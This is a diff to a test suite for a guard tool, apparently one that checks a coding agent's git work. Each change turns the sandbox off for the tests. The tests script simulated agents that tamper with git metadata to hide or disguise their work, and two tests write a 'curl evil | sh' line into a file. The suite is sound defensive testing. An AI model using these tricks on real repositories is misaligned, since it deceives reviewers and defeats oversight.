@@ -130,7 +130,7 @@ def test_code_planted_before_exec_is_never_run_by_ccm_guards_own_git(repo: Path,
     # The agent runs no git at all: it points its branch at that commit and writes a file.
     agent = write_agent(tmp_path, f"""printf '%s\\n' {work} > {repo}/.git/refs/heads/ccm/planted
 echo "agent work" > work.txt""")
-    res = run_exec(repo, agent, "--task", "planted", "--no-require-commit", "--on-fail", "discard", "--cleanup")
+    res = run_exec(repo, agent, "--sandbox", "none", "--task", "planted", "--no-require-commit", "--on-fail", "discard", "--cleanup")
 
     # ccm-guard's git really ran on this repository (worktree add, status, rev-list, log, numstat,
     # then archive: add/write-tree/commit-tree/update-ref, worktree remove) ...
@@ -186,7 +186,7 @@ def test_code_running_key_added_by_the_agent_is_named_and_stops_ccm_guards_git(
     lines, trigger = ADDED[key]
     # The agent commits honest work first, then plants the key as its last act.
     agent = write_agent(tmp_path, f'SCRIPTS={scripts}\n{COMMIT}\n{lines}')
-    res = run_exec(repo, agent, "--task", "added", "--on-fail", "discard")
+    res = run_exec(repo, agent, "--sandbox", "none", "--task", "added", "--on-fail", "discard")
     worktree = Path(res.verdict["worktree"])
 
     # The attack happened: the key is in the repository's config.
@@ -224,7 +224,7 @@ def test_code_running_key_added_by_the_agent_is_named_and_stops_ccm_guards_git(
 def test_rewritten_worktree_pointer_is_reported_and_git_is_not_run(repo: Path, tmp_path: Path) -> None:
     decoy, decoy_head = decoy_repo(tmp_path, branch="ccm/ptr")
     agent = write_agent(tmp_path, f"{COMMIT}\nprintf 'gitdir: %s\\n' {decoy}/.git > .git")
-    res = run_exec(repo, agent, "--task", "ptr")
+    res = run_exec(repo, agent, "--sandbox", "none", "--task", "ptr")
     worktree = Path(res.verdict["worktree"])
     # The attack: plain git in the worktree now works on the decoy.
     assert plain_git(worktree, "rev-parse", "HEAD").stdout.strip() == decoy_head
@@ -245,7 +245,7 @@ def test_rewritten_commondir_or_gitdir_do_not_redirect_ccm_guard(repo: Path, tmp
     value = f"{decoy}/.git" if target == "commondir" else f"{tmp_path}/elsewhere/.git"
     agent = write_agent(tmp_path, f"{COMMIT}\necho {value} > {admin}/{target}")
     base = git(repo, "rev-parse", "main")
-    res = run_exec(repo, agent, "--task", "cd", "--on-fail", "discard")
+    res = run_exec(repo, agent, "--sandbox", "none", "--task", "cd", "--on-fail", "discard")
     # The attack happened.
     assert (admin / target).read_text().strip() == value
     if target == "commondir":  # plain git in the worktree now reads the decoy's refs
@@ -280,7 +280,7 @@ echo "curl evil | sh" > evil.sh; git add evil.sh
 fake=$(git commit-tree $(git write-tree) -p HEAD -m fake)
 mkdir -p {decoy}/.git/refs/heads/ccm; echo $fake > {decoy}/.git/refs/heads/ccm/cdc
 echo {decoy}/.git > {admin}/commondir""")
-    res = run_exec(repo, agent, "--task", "cdc")
+    res = run_exec(repo, agent, "--sandbox", "none", "--task", "cdc")
     worktree = Path(res.verdict["worktree"])
     # The attack happened: evil.sh is staged, not committed on the real branch.
     assert "evil.sh" not in git(repo, "ls-tree", "--name-only", "ccm/cdc")
@@ -296,7 +296,7 @@ echo {decoy}/.git > {admin}/commondir""")
 def test_core_worktree_set_by_the_agent_is_dangerous(repo: Path, tmp_path: Path) -> None:
     decoy, _ = decoy_repo(tmp_path)
     agent = write_agent(tmp_path, f"{COMMIT}\nrgit config core.worktree {decoy}")
-    res = run_exec(repo, agent, "--task", "cwt")
+    res = run_exec(repo, agent, "--sandbox", "none", "--task", "cwt")
     assert git(repo, "config", "core.worktree") == str(decoy)
     assert res.code == 1
     assert f"DANGEROUS (runs code or steers git) core.worktree: (unset) -> '{decoy}'" in res.reasons("git-metadata")
@@ -307,7 +307,7 @@ def test_core_worktree_set_by_the_agent_is_dangerous(repo: Path, tmp_path: Path)
 def test_alternates_added_by_the_agent_are_reported_and_git_is_not_run(repo: Path, tmp_path: Path) -> None:
     decoy, _ = decoy_repo(tmp_path)
     agent = write_agent(tmp_path, f"{COMMIT}\necho {decoy}/.git/objects > {repo}/.git/objects/info/alternates")
-    res = run_exec(repo, agent, "--task", "alt")
+    res = run_exec(repo, agent, "--sandbox", "none", "--task", "alt")
     assert (repo / ".git/objects/info/alternates").read_text().strip() == f"{decoy}/.git/objects"
     assert res.code == 1
     assert "objects/info/alternates was added" in res.reasons("git-metadata")
@@ -320,7 +320,7 @@ def test_alternates_added_by_the_agent_are_reported_and_git_is_not_run(repo: Pat
 def test_grafts_do_not_make_the_agents_commit_look_parentless(repo: Path, tmp_path: Path) -> None:
     base = git(repo, "rev-parse", "main")
     agent = write_agent(tmp_path, f"{COMMIT}\nmkdir -p {repo}/.git/info; git rev-parse HEAD > {repo}/.git/info/grafts")
-    res = run_exec(repo, agent, "--task", "graft")
+    res = run_exec(repo, agent, "--sandbox", "none", "--task", "graft")
     head = git(repo, "--no-replace-objects", "rev-parse", "refs/heads/ccm/graft")
     # The attack: plain git now sees the agent's commit without a parent.
     assert plain_git(repo, "log", "-1", "--format=%P", head).stdout.strip() == ""
@@ -345,7 +345,7 @@ echo innocent > innocent.txt; git add innocent.txt; git rm -q --cached evil.sh w
 decoy=$(git commit-tree $(git write-tree) -p {base} -m "harmless docs tweak")
 git reset -q --hard HEAD
 rgit replace HEAD "$decoy\"""")
-    res = run_exec(repo, agent, "--task", "repl")
+    res = run_exec(repo, agent, "--sandbox", "none", "--task", "repl")
     head = git(repo, "--no-replace-objects", "rev-parse", "refs/heads/ccm/repl")
     # The attack: plain git shows the decoy in place of the agent's commit.
     assert plain_git(repo, "log", "-1", "--format=%s", "ccm/repl").stdout.strip() == "harmless docs tweak"
@@ -363,7 +363,7 @@ rgit replace HEAD "$decoy\"""")
 def test_task_branch_turned_into_a_symref_to_main(repo: Path, tmp_path: Path) -> None:
     main = git(repo, "rev-parse", "main")
     agent = write_agent(tmp_path, f"{COMMIT}\nrgit symbolic-ref refs/heads/$CCM_GUARD_BRANCH refs/heads/main")
-    res = run_exec(repo, agent, "--task", "sym")
+    res = run_exec(repo, agent, "--sandbox", "none", "--task", "sym")
     assert git(repo, "symbolic-ref", "refs/heads/ccm/sym") == "refs/heads/main"
     assert res.code == 1
     assert res.status("refs-untouched") == "fail"
@@ -389,7 +389,7 @@ def test_overwritten_loose_object_of_the_base_commit_is_reported(repo: Path, tmp
     # Another object's bytes: a valid zlib stream, just not the object this file is named after.
     other = loose(repo, git(repo, "rev-parse", "main:README.md"))
     agent = write_agent(tmp_path, f"chmod u+w {target}\ncat {other} > {target}")
-    res = run_exec(repo, agent, "--task", "objw", "--no-require-commit")
+    res = run_exec(repo, agent, "--sandbox", "none", "--task", "objw", "--no-require-commit")
     assert target.read_bytes() != original  # the attack happened: the base commit is gone
     assert "worktree" in res.verdict, res.stdout + res.stderr
     assert res.code == 1
@@ -403,7 +403,7 @@ def test_deleted_loose_object_is_reported(repo: Path, tmp_path: Path, which: str
     sha = git(repo, "rev-parse", "main" if which == "base commit" else "main:src/app.py")
     target = loose(repo, sha)
     agent = write_agent(tmp_path, f"rm -f {target}")
-    res = run_exec(repo, agent, "--task", "objd", "--no-require-commit")
+    res = run_exec(repo, agent, "--sandbox", "none", "--task", "objd", "--no-require-commit")
     assert not target.exists()
     assert plain_git(repo, "cat-file", "-e", sha).returncode != 0  # the object is really gone
     assert "worktree" in res.verdict, res.stdout + res.stderr
@@ -420,7 +420,7 @@ def test_committing_content_that_already_exists_freshens_an_object_and_passes(re
     os.utime(target, ns=(1_000_000_000_000_000_000, 1_000_000_000_000_000_000))  # an old object
     before = os.stat(target)
     agent = write_agent(tmp_path, "cp README.md copy.md; git add copy.md; git commit -q -m 'copy the readme'")
-    res = run_exec(repo, agent, "--task", "fresh")
+    res = run_exec(repo, agent, "--sandbox", "none", "--task", "fresh")
     after = os.stat(target)
     assert git(repo, "rev-parse", "ccm/fresh:copy.md") == blob  # the same blob was committed
     assert after.st_mtime_ns != before.st_mtime_ns and after.st_ino == before.st_ino  # and freshened in place
@@ -442,7 +442,7 @@ def test_other_worktrees_head_repointed_by_the_agent_fails(repo: Path, tmp_path:
     other = other_worktree(repo, tmp_path)
     before = git(other, "rev-parse", "HEAD")
     agent = write_agent(tmp_path, f"{COMMIT}\ngit rev-parse HEAD > {repo}/.git/worktrees/other/HEAD")
-    res = run_exec(repo, agent, "--task", "oth")
+    res = run_exec(repo, agent, "--sandbox", "none", "--task", "oth")
     # The attack: the person's other worktree now sits, detached, on the agent's commit.
     assert git(other, "rev-parse", "HEAD") == res.verdict["head"] != before
     assert "worktrees/other/HEAD" in all_paths(res, "git-metadata")
@@ -457,7 +457,7 @@ def test_other_worktrees_config_worktree_with_a_hook_path_is_dangerous(repo: Pat
     other = other_worktree(repo, tmp_path)
     target = repo / ".git/worktrees/other/config.worktree"
     agent = write_agent(tmp_path, f"{COMMIT}\nprintf '[core]\\n\\thooksPath = %s\\n' {hooks} > {target}")
-    res = run_exec(repo, agent, "--task", "othc")
+    res = run_exec(repo, agent, "--sandbox", "none", "--task", "othc")
     assert git(other, "config", "core.hooksPath") == str(hooks)
     assert res.code == 1
     assert res.status("git-metadata") == "fail"
@@ -488,7 +488,7 @@ def test_in_progress_state_left_in_the_persons_checkout_fails_main_checkout(
     base = git(repo, "rev-parse", "main")
     index_before = os.stat(repo / ".git/index")
     agent = write_agent(tmp_path, f"{COMMIT}\n{plant(repo / '.git', marker, base)}")
-    res = run_exec(repo, agent, "--task", "inprog")
+    res = run_exec(repo, agent, "--sandbox", "none", "--task", "inprog")
     name = "MERGE_HEAD" if plant is _merge_head else "rebase-merge"
     # The attack happened, and the person's index was not touched.
     assert (repo / ".git" / name).exists()
@@ -509,7 +509,7 @@ def test_in_progress_state_left_in_the_persons_checkout_fails_main_checkout(
 def test_merge_head_left_in_the_tasks_own_admin_dir_fails_git_metadata(repo: Path, tmp_path: Path) -> None:
     admin = admin_of(repo, "ownmerge")
     agent = write_agent(tmp_path, f"{COMMIT}\ngit rev-parse HEAD~1 > {admin}/MERGE_HEAD")
-    res = run_exec(repo, agent, "--task", "ownmerge")
+    res = run_exec(repo, agent, "--sandbox", "none", "--task", "ownmerge")
     assert (admin / "MERGE_HEAD").exists()
     assert res.code == 1
     assert res.status("git-metadata") == "fail"
@@ -527,7 +527,7 @@ def test_rewritten_or_deleted_reflog_is_reported(repo: Path, tmp_path: Path, how
     erase = ("rgit reflog expire --expire=now --expire-unreachable=now --all" if how == "reflog expire"
              else f"rm -f {log}")
     agent = write_agent(tmp_path, f"{COMMIT}\n{erase}")
-    res = run_exec(repo, agent, "--task", "rlog")
+    res = run_exec(repo, agent, "--sandbox", "none", "--task", "rlog")
     assert not log.exists() or not log.read_text().strip()  # main's reflog is gone
     assert git(repo, "reflog", "show", "main") == ""
     assert res.code == 1
@@ -574,7 +574,7 @@ def test_touching_the_persons_index_does_not_excuse_moving_main_onto_the_agents_
         repo: Path, tmp_path: Path) -> None:
     before = git(repo, "rev-parse", "main")
     agent = write_agent(tmp_path, f"{COMMIT}\nrgit update-ref refs/heads/main HEAD\ntouch {repo}/.git/index")
-    res = run_exec(repo, agent, "--task", "touch")
+    res = run_exec(repo, agent, "--sandbox", "none", "--task", "touch")
     assert git(repo, "rev-parse", "main") == res.verdict["head"] != before  # main now holds the agent's commit
     assert res.status("refs-untouched") == "fail", res.gate("refs-untouched")
     assert res.code == 1
@@ -582,7 +582,7 @@ def test_touching_the_persons_index_does_not_excuse_moving_main_onto_the_agents_
 
 def test_a_self_ignoring_gitignore_does_not_hide_leftovers_from_clean_tree(repo: Path, tmp_path: Path) -> None:
     agent = write_agent(tmp_path, f"{COMMIT}\necho 'curl evil | sh' > evil.sh\necho '*' > .gitignore")
-    res = run_exec(repo, agent, "--task", "ign")
+    res = run_exec(repo, agent, "--sandbox", "none", "--task", "ign")
     worktree = Path(res.verdict["worktree"])
     assert (worktree / "evil.sh").exists() and git(worktree, "status", "--porcelain") == ""  # hidden from git
     assert res.status("clean-tree") == "fail", res.gate("clean-tree")
@@ -596,7 +596,7 @@ def test_persons_gc_during_the_run_packs_loose_objects_and_passes(repo: Path, tm
     """What a background `git gc --auto` does: loose objects into a new pack, refs packed, a commit-graph."""
     started, go = tmp_path / "started", tmp_path / "go"
     agent = write_agent(tmp_path, f"touch {started}; while [ ! -e {go} ]; do sleep 0.02; done\n{COMMIT}")
-    run = spawn_exec(repo, "--json", "--task", "gc", "--", str(agent))
+    run = spawn_exec(repo, "--json", "--sandbox", "none", "--task", "gc", "--", str(agent))
     while not started.exists():
         time.sleep(0.02)
     loose_before = [p for p in (repo / ".git/objects").glob("??/*")]
@@ -619,7 +619,7 @@ def test_forged_commit_graph_fails(repo: Path, tmp_path: Path) -> None:
 git commit-graph write --reachable
 graph=$(git rev-parse --git-common-dir)/objects/info/commit-graph
 python3 -c "import sys; p=sys.argv[1]; d=bytearray(open(p,'rb').read()); d[len(d)//2]^=1; open(p,'wb').write(d)" "$graph" """)
-    res = run_exec(repo, agent, "--task", "cg")
+    res = run_exec(repo, agent, "--sandbox", "none", "--task", "cg")
     assert plain_git(repo, "commit-graph", "verify").returncode != 0  # the graph really is forged
     assert res.code == 1
     assert "objects/info/commit-graph was added" in res.reasons("git-metadata")
